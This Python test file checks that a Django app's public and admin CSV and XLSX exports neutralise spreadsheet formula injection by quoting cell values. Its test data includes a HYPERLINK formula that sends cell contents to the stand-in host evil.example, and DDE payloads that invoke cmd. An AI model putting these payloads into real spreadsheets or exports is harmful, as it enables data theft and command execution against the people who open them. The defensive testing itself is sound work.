"""Every CSV and XLSX we write shows formulas as text (OWASP's CSV-injection advice).

Defect 1 of issue 12: a source title `=HYPERLINK("http://evil.example/?d="&A2,"open")`
or evidence starting with =, +, -, @ came back as a live formula in the admin's XLSX
template and export and raw in their CSV versions; the public status and history CSVs
wrote requirement titles raw.
"""

import csv
import datetime as dt
import io

import openpyxl
import pytest

from alignment.models import Status, StatusChange
from tests import factories
from tests.admin.conftest import logged_in
from tests.sheets import upload

pytestmark = pytest.mark.django_db

HYPERLINK = '=HYPERLINK("http://evil.example/?d="&A2,"open")'
PAYLOADS = [HYPERLINK, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)*cmd|' /C calc'!A0"]


@pytest.fixture
def hostile(db):
    """One approved status on each requirement, whose titles are the payloads."""
    al = factories.country("AL", "Albania")
    fw = factories.framework("fw", countries=[al])
    for n, title in enumerate(PAYLOADS):
        requirement = factories.requirement(fw, f"r{n}", title=title)
        factories.change(al, requirement, Status.ADOPTED, on=dt.date(2018, 7, 31))


def neutralised(cells: list[str]) -> None:
    """Each payload shows as itself behind a quote; no cell starts a formula."""
    for payload in PAYLOADS:
        assert "'" + payload in cells
    assert not [c for c in cells if isinstance(c, str) and c.startswith(("=", "+", "-", "@"))]


@pytest.mark.parametrize("name", ["status", "history"])
def test_public_csv_exports_neutralise_formulas(client, hostile, name):
    response = client.get(f"/export/{name}.csv")
    rows = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode())))
    neutralised([cell for row in rows[1:] for cell in row])


@pytest.mark.parametrize("name", ["status", "history"])
def test_public_xlsx_exports_neutralise_formulas(client, hostile, name):
    response = client.get(f"/export/{name}.xlsx")
    book = openpyxl.load_workbook(io.BytesIO(b"".join(response.streaming_content)))
    cells = [cell.value for row in book.active.iter_rows(min_row=2) for cell in row]
    neutralised(cells)


def test_numbers_stay_numbers(client, hostile):
    response = client.get("/export/status.xlsx")
    book = openpyxl.load_workbook(io.BytesIO(b"".join(response.streaming_content)))
    header = [cell.value for cell in book.active[1]]
    scores = [row[header.index("score")].value for row in book.active.iter_rows(min_row=2)]
    assert scores == [75, 75, 75, 75]


# The admin's spreadsheets: the template an editor fills in and the export.

ADMIN = "/admin/alignment/statuschange/"


@pytest.fixture
def hostile_record(world):
    """AL's current status, its evidence and its source's title formulas."""
    src = factories.source("evil", title=HYPERLINK, url="https://example.org/evil")
    return factories.change(
        world.al, world.strategy, Status.ADOPTED, on=dt.date(2018, 7, 31), src=src,
        evidence="=1+1 is what the gazette says",
    )  # fmt: skip


def admin_cells(response, kind: str) -> list:
    if kind == "csv":
        rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
        return [cell for row in rows[1:] for cell in row]
    sheet = openpyxl.load_workbook(io.BytesIO(response.content)).worksheets[0]
    return [cell.value for row in sheet.iter_rows(min_row=2) for cell in row]


def admin_export(client, kind: str):
    form = client.get(f"{ADMIN}export/").context["form"]
    columns = {name: "on" for name, field in form.fields.items() if field.initial is True}
    return client.post(
        f"{ADMIN}export/", {"format": {"csv": "0", "xlsx": "1"}[kind], "resource": "0", **columns}
    )


@pytest.mark.parametrize("kind", ["csv", "xlsx"])
def test_the_admin_template_neutralises_formulas(editor, world, hostile_record, kind):
    response = logged_in(editor).get(f"{ADMIN}template/", {"country": "AL", "format": kind})
    cells = admin_cells(response, kind)
    assert "'" + HYPERLINK in cells and "'=1+1 is what the gazette says" in cells
    assert not [c for c in cells if isinstance(c, str) and c.startswith(("=", "+", "-", "@"))]


@pytest.mark.parametrize("kind", ["csv", "xlsx"])
def test_the_admin_export_neutralises_formulas(reviewer, world, hostile_record, kind):
    cells = admin_cells(admin_export(logged_in(reviewer), kind), kind)
    assert "'" + HYPERLINK in cells and "'=1+1 is what the gazette says" in cells
    assert not [c for c in cells if isinstance(c, str) and c.startswith(("=", "+", "-", "@"))]


def test_an_export_with_formulas_uploads_again_unchanged(reviewer, world, hostile_record):
    client = logged_in(reviewer)
    exported = admin_export(client, "csv").content
    preview = upload(client, exported)
    assert preview.context["result"].totals["skip"] == 1
    assert preview.context["result"].totals["new"] == 0


def test_the_template_leaves_out_characters_xlsx_cannot_hold(editor, world, hostile_record):
    # A row recorded before control characters were refused.
    StatusChange.objects.filter(pk=hostile_record.pk).update(evidence="In force\x0bsince 2018")
    response = logged_in(editor).get(f"{ADMIN}template/", {"country": "AL", "format": "xlsx"})
    assert response.status_code == 200
    assert "In forcesince 2018" in admin_cells(response, "xlsx")
